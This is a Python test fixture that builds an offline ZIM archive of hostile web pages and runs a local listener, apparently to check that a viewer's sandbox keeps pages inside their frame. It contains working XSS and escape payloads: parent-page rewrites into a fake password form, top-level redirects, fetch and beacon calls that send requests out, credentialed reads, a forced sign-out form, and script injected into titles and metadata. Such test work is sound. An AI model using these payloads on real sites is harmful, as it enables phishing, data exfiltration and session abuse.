"""An archive whose pages do all they can to get out of their frame; a listener is the Internet.

What gets out shows in three places: at the listener, in the tab (another address, another title,
a second window), or as a request for a path that begins with "owned": by it a program tells that
it did what it must not.
"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.content.zim.writer import Writer

TOLD = "new Image().src='owned-'+"
LINK = "display:block;position:absolute;left:0;top:0;width:100%;height:2000px"
CLICKED = ("form", "link", "svg-link", "popup-link", "base", "base-late", "base-ours", "base-form")
"""Attacks that wait for a press anywhere in the page."""
RUNS = "script"
"""What an interactive page may do: run at all, inside its frame."""


class Listener:
    """The Internet: writes down what reaches it."""

    def __init__(self):
        self.reached = []
        reached = self.reached

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                reached.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"out")

            do_POST = do_HEAD = do_GET  # noqa: N815 - as the library names them

            def log_message(self, *said):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self):
        self._server.shutdown()
        self._server.server_close()


def attacks(out):
    """Return each attack's page, by its name."""

    def script(text):
        return f"<script>try{{{text}}}catch(e){{}}</script>"

    beside = (
        f"<a style='{LINK}' ping=ping href=link>x</a><img src=img><img srcset='srcset 1x'>"
        "<link rel=stylesheet href=css><script src=script></script><video src=video></video>"
        "<svg><image href=svg-image /></svg><p style='background:url(style)'>a</p>"
        "<iframe src=frame></iframe><object data=object></object>"
        + script("fetch('fetch',{mode:'no-cors'});navigator.sendBeacon('beacon')")
        + script("import('./module')")
        + script("new Worker('worker')")
    )
    ours = (
        "<base href='/library/'><script src='../static/menu.js'></script>"
        + script(f"fetch('',{{credentials:'include'}}).then(r=>r.text()).then(t=>{TOLD}'read')")
        + script(
            "var f=document.createElement('iframe');f.src='./';f.onload=()=>"
            "{if(f.contentDocument.body)" + TOLD + "'frame'}};document.documentElement.append(f)"
        )
    )
    return {
        "base": f"<base href='{out}/base/' target=_top>{beside}",
        "base-late": script(
            f"var b=document.createElement('base');b.href='{out}/late/';document.head.append(b)"
        )
        + f"<base href='//{out.rpartition('/')[2]}/late/'>{beside}",
        "base-ours": f"{ours}<a style='{LINK}' href='?q=base'>x</a>",
        "base-form": f"{ours}<form action='../sign-out' method=post><button style='{LINK}'>Go"
        "</button></form>" + script("document.forms[0].submit()"),
        "script": script(TOLD + "'script'"),
        "parent": script(
            "var p=top===self?opener:parent;p.document.title='owned';"
            "p.document.body.innerHTML='<form action=" + out + "/parent><input name=password>'"
        )
        + script(f"parent.setTimeout(\"location='{out}/parent-timer'\",0)"),
        "top": script(f"top.location='{out}/top'") + script(f"window.top.open('{out}/top','_top')"),
        "storage": script(f"localStorage.owned=1;{TOLD}'storage'")
        + script(f"document.cookie='owned=1;path=/';if(document.cookie){TOLD}'cookie'"),
        "same-origin": script(
            f"fetch('/library/',{{credentials:'include'}}).then(r=>r.text()).then(t=>{TOLD}'read')"
        )
        + script(
            "var f=document.createElement('iframe');f.src='/library/';f.onload=()=>"
            "{if(f.contentDocument.body)" + TOLD + "'frame'}};document.documentElement.append(f)"
        ),
        "fetch": script(f"fetch('{out}/fetch',{{mode:'no-cors'}})")
        + script(f"navigator.sendBeacon('{out}/beacon')")
        + script(f"new WebSocket('{out}/socket'.replace('http','ws'))"),
        "load": f"<img src='{out}/img'><img srcset='{out}/srcset 1x'><link rel=stylesheet "
        f"href='{out}/css'><link rel=prefetch href='{out}/prefetch'><link rel=preload as=image "
        f"href='{out}/preload'><link rel=icon href='{out}/icon'><p style=\"background:url("
        f"'{out}/style')\">a</p><style>@import '{out}/import';p{{background:u\\72l({out}/escaped)}}"
        f"@font-face{{font-family:x;src:url({out}/font)}}body{{font-family:x}}</style>"
        f"<video src='{out}/video' poster='{out}/poster'></video><audio src='{out}/audio'></audio>"
        f"<object data='{out}/object'></object><embed src='{out}/embed'><table background="
        f"'{out}/background'><svg><image href='{out}/svg-image'/><use href='{out}/use#a'/></svg>",
        "iframe": f"<iframe src='{out}/iframe'></iframe><iframe srcdoc=\"<img src='{out}/srcdoc'>"
        f'"></iframe><frameset><frame src="{out}/frame"></frameset>',
        "form": f"<form action='{out}/form' method=post><button style='{LINK}'>Go</button></form>"
        + script("document.forms[0].submit()"),
        "refresh": f"<meta http-equiv=refresh content='0;url={out}/refresh'>",
        "self": script(f"location='{out}/self'") + script(f"location.replace('{out}/replace')"),
        "popup": script(f"window.open('{out}/popup')")
        + script(
            "var a=document.createElement('a');a.href='" + out + "/blank';a.target='_blank';"
            "document.documentElement.append(a);a.click()"
        ),
        "popup-link": f"<a target=_blank style='{LINK}' href='{out}/popup-link'>x</a>",
        "link": f"<a style='{LINK}' ping='{out}/ping' href='{out}/link'>x</a>",
        "svg-link": f"<svg style='{LINK}' viewBox='0 0 9 9'><a href='{out}/svg' xlink:href="
        f"'{out}/xlink'><rect width='9' height='9'/></a></svg>",
        "worker": script(f"navigator.serviceWorker.register('worker.js').then(()=>{TOLD}'worker')")
        + script("new Worker('worker.js')"),
        "markup": "<p>Its title is the attack.",
    }


def archive(out):
    """Return the bytes of the archive."""
    bad = f"<img src={out}/title onerror=fetch('{out}/title')><script>fetch('{out}/t')</script>"
    writer = Writer(main="markup")
    for name, body in attacks(out).items():
        title = bad if name == "markup" else f"Page {name}"
        writer.add(
            name, f"<!doctype html><html><head><title>{bad}</title></head><body>{body}", title=title
        )
    writer.add("worker.js", f"fetch('{out}/worker')", type="text/javascript")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>location='{out}/svg-own'</script></svg>"
    writer.add("drawing.svg", svg, type="image/svg+xml")
    return writer.say(Title=f"Evil {bad}"[:90], Description=bad, Language="fra").to_bytes()
